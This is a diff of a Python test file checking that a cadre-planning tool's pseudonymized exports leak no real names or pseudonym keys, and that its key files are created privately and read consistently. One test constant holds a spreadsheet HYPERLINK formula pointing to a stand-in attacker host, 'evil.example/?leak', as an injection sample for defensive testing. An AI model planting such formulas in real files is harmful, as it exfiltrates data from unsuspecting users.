@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import json
+import multiprocessing
+import os
+import stat
 import warnings
 import zipfile
 from dataclasses import replace
@@ -13,10 +17,22 @@ from openpyxl import load_workbook
 
 from models import Plan, Scenario, Shortfall, build_plan, evaluate, load_scenario, owed_obligations
 from optimizer.reports import Pseudonyms, fonts, pseudonymize, write_exports, write_workbook
-from optimizer.reports.privacy import AMBIGUOUS, KEY_VARIABLE, name_scrubber
+from optimizer.reports.privacy import (
+    AMBIGUOUS,
+    FINGERPRINT,
+    KEY_FILE_VARIABLE,
+    KEY_VARIABLE,
+    PseudonymKeyCreated,
+    PseudonymKeyError,
+    default_key_file,
+    name_scrubber,
+    read_or_create_key,
+)
 from optimizer.reports.xlsx import cell
 
 YEAR = 2020
+KEY = b"test key of the Jiangzhou city organisation department"
+ALIAS = Pseudonyms(KEY)
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","点此查看")'
 NAMES = {
     "C1": "欧阳明",
@@ -84,6 +100,14 @@ def _tables() -> dict[str, list[dict[str, str]]]:
     }
 
 
+@pytest.fixture(autouse=True)
+def _own_config_home(tmp_path, monkeypatch):
+    """No test reads or makes the user's own key file, nor takes a key from the environment."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.delenv(KEY_VARIABLE, raising=False)
+    monkeypatch.delenv(KEY_FILE_VARIABLE, raising=False)
+
+
 @pytest.fixture(scope="module")
 def scenario_and_plan(tmp_path_factory) -> tuple[Scenario, Plan]:
     scenario = load_scenario(write_scenario(tmp_path_factory.mktemp("privacy") / "scenario", _tables()))
@@ -129,7 +153,7 @@ def plain_and_pseudonymized(scenario_and_plan, tmp_path_factory) -> tuple[dict[s
     plain, hidden = tmp_path_factory.mktemp("plain"), tmp_path_factory.mktemp("hidden")
     # SVG only: its text is searchable (matplotlib writes each text as a comment beside the glyph paths).
     write_exports(scenario, plan, plain, formats=("svg",))
-    write_exports(scenario, plan, hidden, formats=("svg",), pseudonymize=True)
+    write_exports(scenario, plan, hidden, formats=("svg",), pseudonymize=True, pseudonyms=ALIAS)
     return _export_texts(plain), _export_texts(hidden)
 
 
@@ -148,9 +172,8 @@ def test_a_pseudonymized_filing_holds_no_real_name(scenario_and_plan, plain_and_
     leaks = {(name, part) for part, text in hidden.items() for name in NAMES.values() if name in text}
     assert leaks == set()
     assert not any("1390000000" in text for text in hidden.values())  # extra columns are dropped
-    pseudonyms = Pseudonyms()
     shown = "\n".join(hidden.values())
-    assert all(pseudonyms(cid) in shown for cid in NAMES)
+    assert all(ALIAS(cid) in shown for cid in NAMES)
     assert all(cid in shown for cid in NAMES)  # ids stay: the plan contract needs them
     assert "假名" in hidden["report.md"]  # the filing says its names are pseudonyms
     assert any(
@@ -160,8 +183,8 @@ def test_a_pseudonymized_filing_holds_no_real_name(scenario_and_plan, plain_and_
 
 def test_names_inside_scenario_text_are_replaced_whole(scenario_and_plan):
     scenario, plan = scenario_and_plan
-    shown, shown_plan = pseudonymize(scenario, plan)
-    alias = Pseudonyms()
+    shown, shown_plan = pseudonymize(scenario, plan, ALIAS)
+    alias = ALIAS
     reasons = {s.cadre_id: s.reason for s in shown.summons}
     assert reasons["C3"] == f"市委点名:{alias('C3')}、{alias('C1')}须参加"
     assert reasons["C4"] == f"{AMBIGUOUS}同志补训"  # which 王芳 is meant cannot be told
@@ -173,21 +196,87 @@ def test_names_inside_scenario_text_are_replaced_whole(scenario_and_plan):
     assert scrub("欧阳明和欧阳") == "P-B和P-A"
 
 
-def test_a_cadre_keeps_its_pseudonym_across_runs_and_the_key_decides_it(monkeypatch):
-    monkeypatch.delenv(KEY_VARIABLE, raising=False)
-    pseudonyms = Pseudonyms.from_environment()
+def test_a_cadre_keeps_its_pseudonym_under_a_key_and_two_keys_differ(monkeypatch):
     # Pinned values: last year's filing and this year's must show a cadre alike, whatever the run or version.
-    assert (pseudonyms("C3"), pseudonyms("C000001")) == ("P-UMSHNYEZ", "P-QJUFFCF4")
-    assert len({pseudonyms(f"C{k:06d}") for k in range(5000)}) == 5000
+    assert (ALIAS("C3"), ALIAS("C000001")) == PINNED
+    assert len({ALIAS(f"C{k:06d}") for k in range(5000)}) == 5000
+    other = Pseudonyms(b"another department's key")
+    assert sum(ALIAS(f"C{k:06d}") == other(f"C{k:06d}") for k in range(5000)) == 0
+    monkeypatch.setenv(KEY_VARIABLE, KEY.decode())
+    assert Pseudonyms.from_environment()("C3") == ALIAS("C3")  # the environment's key beats any key file
     monkeypatch.setenv(KEY_VARIABLE, "江州市委组织部的密钥")
-    assert Pseudonyms.from_environment()("C3") != "P-UMSHNYEZ"
+    assert Pseudonyms.from_environment()("C3") != ALIAS("C3")
+    assert KEY.decode() not in repr(ALIAS) and "江州" not in repr(Pseudonyms.from_environment())
+
+
+PINNED = ("P-Y7CQIHCR", "P-AA3ZGRVO")
+
+
+def test_the_first_use_makes_a_private_random_key_file_and_later_ones_read_it(tmp_path):
+    path = default_key_file()
+    assert path == tmp_path / "config" / "cadre-plan" / "pseudonym.key"
+    assert not path.exists()
+    first = Pseudonyms.from_environment()
+    assert first.created and first.source == str(path) and first.notice() is not None
+    text = path.read_text(encoding="ascii").strip()
+    assert len(text) == 64 and int(text, 16) >= 0  # 256 random bits, as hex
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
+    again = Pseudonyms.from_environment()
+    assert not again.created and again.notice() is None  # said once
+    assert again("C1") == first("C1") and again.fingerprint == first.fingerprint
+    other = tmp_path / "elsewhere" / "key"
+    made = Pseudonyms.from_environment(other)  # another file, another random key
+    assert made.created and made("C1") != first("C1") and made.fingerprint != first.fingerprint
+    assert text not in str(first.notice()) and first.fingerprint in str(first.notice())
+
+
+def test_the_key_file_place_can_be_set_and_a_bad_file_is_named(tmp_path, monkeypatch):
+    chosen = tmp_path / "keys" / "department.key"
+    monkeypatch.setenv(KEY_FILE_VARIABLE, str(chosen))
+    assert default_key_file() == chosen
+    chosen.parent.mkdir()
+    chosen.write_text("  江州 secret \n", encoding="utf-8")
+    chosen.chmod(0o600)
+    assert Pseudonyms.from_environment().key == "江州 secret".encode()  # the file's text, stripped
+    chosen.chmod(0o644)
+    with pytest.warns(UserWarning, match="other users"):
+        Pseudonyms.from_environment()
+    chosen.write_text("\n", encoding="utf-8")
+    with pytest.raises(PseudonymKeyError, match="department.key: the pseudonym key file is empty"):
+        Pseudonyms.from_environment()
+    (tmp_path / "not-a-folder").write_text("", encoding="utf-8")
+    with pytest.raises(PseudonymKeyError, match="not-a-folder.key: cannot .* the pseudonym key file"):
+        Pseudonyms.from_environment(tmp_path / "not-a-folder" / "key")
+
+
+def _make_key(path: str) -> bytes:
+    return read_or_create_key(Path(path))[0]
+
+
+def test_runs_starting_at_once_agree_on_one_key(tmp_path):
+    path = tmp_path / "cadre-plan" / "pseudonym.key"
+    with multiprocessing.get_context("fork").Pool(4) as pool:
+        keys = pool.map(_make_key, [str(path)] * 8)
+    assert len(set(keys)) == 1 and keys[0] == path.read_bytes().strip()
+    assert [p.name for p in path.parent.iterdir()] == ["pseudonym.key"]  # no temporary file left
+
+
+def test_the_library_warns_once_when_it_made_the_key(scenario_and_plan):
+    scenario, plan = scenario_and_plan
+    with pytest.warns(PseudonymKeyCreated, match="pseudonym.key"):
+        pseudonymize(scenario, plan)
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        _, shown = pseudonymize(scenario, plan)
+    assert shown.summary[FINGERPRINT] == Pseudonyms.from_environment().fingerprint
 
 
 def test_two_pseudonymized_workbooks_name_each_cadre_alike(scenario_and_plan, tmp_path):
     scenario, plan = scenario_and_plan
     names = []
     for run in ("a", "b"):
-        shown, shown_plan = pseudonymize(scenario, plan)
+        shown, shown_plan = pseudonymize(scenario, plan, Pseudonyms(KEY))
         sheet = load_workbook(write_workbook(shown, shown_plan, tmp_path / f"{run}.xlsx", lang="en"))[
             "Assignments"
         ]
@@ -253,9 +342,36 @@ def test_the_font_warning_names_the_id_not_the_name(scenario_and_plan):
     assert "C1" in messages[1] and "'明'" in messages[1]  # the id, and the one character no font draws
 
 
-def test_plan_annual_pseudonymize_leaves_no_name_in_the_plan_folder(tmp_path, monkeypatch):
+def _plan_annual(folder: Path, scenario: Path, *extra: str):
     from click.testing import CliRunner
 
+    from optimizer.cli import annual as cli
+
+    args = ["--year", str(YEAR), "--scenario", str(scenario), "--out", str(folder), "--time-limit", "5"]
+    return CliRunner().invoke(cli.plan_annual, [*args, "--quiet", "--pseudonymize", *extra])
+
+
+def _folder_texts(folder: Path) -> dict[str, str]:
+    """Every text of a plan folder: the exports' (each XML part of the workbook) and the plan files'."""
+    texts = _export_texts(folder)
+    texts.update({p.name: p.read_text(encoding="utf-8") for p in folder.glob("*.csv")})
+    texts["summary.json"] = (folder / "summary.json").read_text(encoding="utf-8")
+    return texts
+
+
+def _pseudonyms_shown(folder: Path) -> list[tuple[str, str]]:
+    book = load_workbook(folder / "filing.xlsx", read_only=True)
+    found = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows(values_only=True):
+            cells = [str(v) for v in row if v is not None]
+            ids = [c for c in cells if c in NAMES]
+            found |= {(ids[0], c) for c in cells if ids and c.startswith("P-")}
+    return sorted(found)
+
+
+@pytest.fixture
+def svg_exports(monkeypatch):
     import optimizer.reports
     from optimizer.cli import annual as cli
 
@@ -265,27 +381,61 @@ def test_plan_annual_pseudonymize_leaves_no_name_in_the_plan_folder(tmp_path, mo
         return real(*args, **{**kwargs, "formats": ("svg",)})
 
     monkeypatch.setattr(cli, "write_exports", svg_only)
+
+
+def test_plan_annual_pseudonymize_leaves_no_name_and_no_key_anywhere(tmp_path, svg_exports):
     scenario = write_scenario(tmp_path / "scenario", _tables())
-    args = [
-        "--year",
-        str(YEAR),
-        "--scenario",
-        str(scenario),
-        "--out",
-        str(tmp_path / "plan"),
-        "--time-limit",
-        "5",
-        "--quiet",
-        "--pseudonymize",
-    ]
-    result = CliRunner().invoke(cli.plan_annual, args)
-    assert result.exit_code == 0, result.output
-    folder = tmp_path / "plan"
-    texts = _export_texts(folder)
-    texts.update({p.name: p.read_text(encoding="utf-8") for p in folder.glob("*.csv")})
-    texts["summary.json"] = (folder / "summary.json").read_text(encoding="utf-8")
-    assert {name for name in NAMES.values() if any(name in text for text in texts.values())} == set()
-    assert Pseudonyms()("C1") in texts["report.md"] + "".join(
-        t for p, t in texts.items() if p.startswith("filing")
-    )
-    assert not any(name in result.output for name in NAMES.values())
+    first, second = _plan_annual(tmp_path / "a", scenario), _plan_annual(tmp_path / "b", scenario)
+    assert first.exit_code == 0 and second.exit_code == 0, first.output + second.output
+    key_file = tmp_path / "config" / "cadre-plan" / "pseudonym.key"
+    key = key_file.read_text(encoding="ascii").strip()
+    assert "pseudonym.key" in first.output and "pseudonym.key" not in second.output  # said once
+    fingerprints = set()
+    for folder, run in ((tmp_path / "a", first), (tmp_path / "b", second)):
+        texts = _folder_texts(folder)
+        summary = json.loads(texts["summary.json"])
+        fingerprints.add(summary[FINGERPRINT])
+        assert summary["pseudonymized"] is True
+        everything = [*texts.values(), run.output]
+        assert {name for name in NAMES.values() if any(name in text for text in everything)} == set()
+        assert not any(key in text or key.upper() in text for text in everything)
+        assert Pseudonyms(key.encode())("C1") in texts["report.md"]
+    assert fingerprints == {Pseudonyms(key.encode()).fingerprint}
+    shown = _pseudonyms_shown(tmp_path / "a")
+    assert shown == _pseudonyms_shown(tmp_path / "b") and {c for c, _ in shown} == set(NAMES)
+
+
+def test_a_department_key_from_the_environment_is_used_and_never_written(tmp_path, svg_exports, monkeypatch):
+    scenario = write_scenario(tmp_path / "scenario", _tables())
+    secret = "江州市委组织部-2020-密钥-7f3a"
+    monkeypatch.setenv(KEY_VARIABLE, secret)
+    run = _plan_annual(tmp_path / "plan", scenario)
+    assert run.exit_code == 0, run.output
+    assert not (tmp_path / "config").exists()  # no key file is made when the environment gives the key
+    texts = _folder_texts(tmp_path / "plan")
+    assert not any(secret in text for text in [*texts.values(), run.output])
+    department = Pseudonyms(secret.encode())
+    assert json.loads(texts["summary.json"])[FINGERPRINT] == department.fingerprint
+    assert dict(_pseudonyms_shown(tmp_path / "plan")) == {c: department(c) for c in NAMES}
+
+
+def test_a_pseudonymized_workbook_hides_no_name_in_its_hidden_parts(scenario_and_plan, tmp_path):
+    """Hidden sheets, defined names (print titles, ranges) and document properties hold no name either."""
+    scenario, plan = scenario_and_plan
+    shown, shown_plan = pseudonymize(scenario, plan, ALIAS)
+    book = load_workbook(write_workbook(shown, shown_plan, tmp_path / "filing.xlsx"))
+    properties = book.properties
+    places = {f"property {name}": getattr(properties, name) for name in vars(properties)}
+    places |= {f"custom property {p.name}": p.value for p in book.custom_doc_props.props}
+    places |= {f"defined name {name}": d.attr_text for name, d in book.defined_names.items()}
+    for sheet in book.worksheets:
+        places |= {f"sheet {sheet.title}": sheet.title, f"{sheet.title} state": sheet.sheet_state}
+        places |= {f"{sheet.title} name {n}": d.attr_text for n, d in sheet.defined_names.items()}
+        places |= {f"{sheet.title} header": str(sheet.oddHeader.center.text), "print": sheet.print_title_rows}
+        cells = [c for row in sheet.iter_rows() for c in row]
+        places |= {f"{sheet.title}!{c.coordinate}": c.value for c in cells if c.value is not None}
+        places |= {f"{sheet.title}!{c.coordinate} comment": c.comment.text for c in cells if c.comment}
+    leaks = {(at, name) for at, value in places.items() for name in NAMES.values() if name in str(value)}
+    assert leaks == set()
+    assert any(ALIAS("C1") in str(value) for value in places.values())  # the control: cells were searched
+    assert os.path.getsize(tmp_path / "filing.xlsx") > 0
